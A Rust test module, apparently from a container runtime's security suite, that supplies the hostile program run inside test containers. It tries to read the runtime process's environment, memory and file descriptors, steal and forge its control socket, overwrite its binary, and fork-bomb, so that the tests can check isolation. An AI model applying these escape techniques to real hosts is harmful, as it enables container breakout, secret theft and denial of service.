//! The program that hostile containers run: this very file, which is static, mounted into them.
//!
//! What it does is in the variable `ATTACK`. It prints a line that begins with `GOT` for whatever it
//! should not have got, and `SEEN` for each time that it met what it was looking for: an attack that
//! never saw its target proves nothing.

use std::os::fd::AsFd;
use std::os::unix::fs::FileExt;
use std::path::Path;

use rustix::fs::{CWD, Mode, OFlags};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, Signal};
use serde_json::json;

use crate::bundle::Bundle;

/// Where it is in the container.
const PROGRAM: &str = "/attacker";
/// What libtest has to be told to run it.
const ARGUMENTS: [&str; 5] = [PROGRAM, "attacker::attack", "--exact", "--ignored", "--nocapture"];

/// Mounts the program.
pub(crate) fn install(b: &mut Bundle) {
    let own = std::env::current_exe().unwrap();
    b.mount(json!({ "destination": PROGRAM, "source": own, "options": ["bind", "ro"] }));
}

/// The container's program will be this attack.
pub(crate) fn attack_with(b: &mut Bundle, attack: &str) {
    install(b);
    b.args(&ARGUMENTS);
    b.config["process"]["env"] = json!(["PATH=/bin", format!("ATTACK={attack}")]);
}

/// The arguments of an `exec` of it.
pub(crate) fn command() -> [&'static str; 5] {
    ARGUMENTS
}

/// The lines of `output` that say what was got.
pub(crate) fn got(output: &str) -> Vec<&str> {
    output.lines().filter(|line| line.contains("GOT")).collect()
}

/// How often the target was met.
pub(crate) fn seen(output: &str) -> usize {
    output.lines().filter(|line| line.contains("SEEN")).count()
}

#[test]
#[ignore = "containers of the other tests run it"]
fn attack() {
    let Ok(attack) = std::env::var("ATTACK") else { return };
    let (name, rest) = attack.split_once(':').unwrap_or((&attack, ""));
    println!("UP");
    match name {
        "join" => watch(&mut |pid| look_into(pid, false)),
        "stop" => watch(&mut |pid| look_into(pid, true)),
        "forge" => watch(&mut |pid| forge(pid, rest.parse().unwrap())),
        "binary" => overwrite(),
        "read" => match std::fs::read_to_string(rest) {
            Ok(text) => println!("GOT {text}"),
            Err(error) => println!("SEEN {error}"),
        },
        "fork" => fork(),
        other => panic!("no such attack: {other}"),
    }
}

/// Calls `meet` for each process that appears and is the runtime: it has the runtime's command line
/// until it executes its program.
fn watch(meet: &mut dyn FnMut(i32)) -> ! {
    let own = rustix::process::getpid().as_raw_nonzero().get();
    let mut last = own;
    loop {
        // Numbers are given out one after the other: looking at the next ones is faster than
        // reading the directory.
        for pid in last + 1..last + WINDOW {
            if is_runtime(pid) {
                meet(pid);
                last = pid;
            } else if Path::new(&format!("/proc/{pid}")).exists() {
                last = pid;
            }
        }
        last = caught_up(last);
    }
}

/// How many numbers after the last one that was met are looked at.
const WINDOW: i32 = 8;

/// Where to go on after `last`: on a busy machine more processes can have come and gone between two
/// looks than the window is wide, and an attacker that stayed behind would never meet one again.
/// The last field of `/proc/loadavg` is the number given out last in this PID namespace
/// (`proc_loadavg(5)`).
fn caught_up(last: i32) -> i32 {
    let newest = std::fs::read_to_string("/proc/loadavg").unwrap();
    let newest: i32 = newest.split_whitespace().last().unwrap().parse().unwrap();
    if newest >= last + WINDOW { newest - 1 } else { last }
}

fn is_runtime(pid: i32) -> bool {
    std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|line| {
        line.split(|b| *b == 0)
            .next()
            .is_some_and(|n| n.ends_with(b"-runtime") || n.ends_with(b"runc"))
    })
}

/// Everything that leads out of a process: its descriptors, memory, environment, directories.
fn look_into(pid: i32, stop: bool) {
    let number = Pid::from_raw(pid).unwrap();
    if stop {
        let _gone = rustix::process::kill_process(number, Signal::STOP);
    }
    let mut found = Vec::new();
    let at = |name: &str| format!("/proc/{pid}/{name}");
    if let Ok(environ) = std::fs::read(at("environ"))
        && !environ.is_empty()
    {
        found.push(format!("environ {}", String::from_utf8_lossy(&environ).replace('\0', " ")));
    }
    if let Ok(memory) = std::fs::File::open(at("mem")) {
        // The headers of a program that is not position independent.
        let mut bytes = [0; 4];
        if memory.read_exact_at(&mut bytes, 0x40_0000).is_ok() {
            found.push("mem".to_owned());
        }
    }
    for name in ["cwd", "root", "exe"] {
        if let Ok(target) = std::fs::read_link(at(name)) {
            found.push(format!("{name} {}", target.display()));
        }
    }
    for n in 0..64 {
        if let Ok(target) = std::fs::read_link(at(&format!("fd/{n}"))) {
            found.push(format!("fd {n} {}", target.display()));
        }
    }
    if let Ok(pidfd) = rustix::process::pidfd_open(number, PidfdFlags::empty()) {
        for n in 0..64 {
            if rustix::process::pidfd_getfd(pidfd.as_fd(), n, PidfdGetfdFlags::empty()).is_ok() {
                found.push(format!("pidfd_getfd {n}"));
            }
        }
    }
    // What was found counts if it was still the runtime then.
    if is_runtime(pid) {
        println!("SEEN {pid}");
        for one in found {
            println!("GOT {one}");
        }
    }
    if stop {
        let _gone = rustix::process::kill_process(number, Signal::CONT);
    }
}

/// Takes the socket over which a process speaks with the runtime, and says that it is another one.
fn forge(pid: i32, victim: i32) {
    let number = Pid::from_raw(pid).unwrap();
    let _gone = rustix::process::kill_process(number, Signal::STOP);
    if is_runtime(pid)
        && let Ok(pidfd) = rustix::process::pidfd_open(number, PidfdFlags::empty())
    {
        println!("SEEN {pid}");
        for n in 3..64 {
            let taken = rustix::process::pidfd_getfd(pidfd.as_fd(), n, PidfdGetfdFlags::empty());
            let Ok(socket) = taken else { continue };
            let flags = rustix::net::SendFlags::NOSIGNAL | rustix::net::SendFlags::DONTWAIT;
            let message = [&b"P"[..], &victim.to_ne_bytes()].concat();
            if rustix::net::send(&socket, &message, flags).is_ok() {
                println!("SEEN socket");
            }
            for _ in 0..200 {
                let _full = rustix::net::send(&socket, b"Wflood", flags);
            }
        }
    }
    let _gone = rustix::process::kill_process(number, Signal::CONT);
}

/// Holds on to the runtime's file, and writes to it once nobody executes it any more.
fn overwrite() -> ! {
    let mut held = Vec::new();
    let mut last = rustix::process::getpid().as_raw_nonzero().get();
    loop {
        last = caught_up(last);
        for pid in last + 1..last + WINDOW {
            let exe = format!("/proc/{pid}/exe");
            let Ok(file) = rustix::fs::open(&exe, OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
            else {
                if Path::new(&format!("/proc/{pid}")).exists() {
                    last = pid;
                }
                continue;
            };
            last = pid;
            let name = std::fs::read_link(format!(
                "/proc/self/fd/{}",
                std::os::fd::AsRawFd::as_raw_fd(&file)
            ));
            let name = name.unwrap_or_default();
            if name.ends_with("busybox") || name == Path::new(PROGRAM) {
                continue;
            }
            println!("SEEN {}", name.display());
            held.push(file);
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(file));
            let opened =
                rustix::fs::openat(CWD, &path, OFlags::WRONLY | OFlags::CLOEXEC, Mode::empty());
            // What is there already, so that even a success does no harm.
            if let Ok(opened) = opened
                && rustix::io::write(&opened, b"\x7fELF").is_ok()
            {
                println!("GOT the runtime's file");
            }
        }
        if held.len() > 32 {
            held.remove(0);
        }
    }
}

/// Processes that make processes, without end.
fn fork() {
    loop {
        let mut command = std::process::Command::new(PROGRAM);
        let _full = command.args(&ARGUMENTS[1..]).stdout(std::process::Stdio::null()).spawn();
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
}
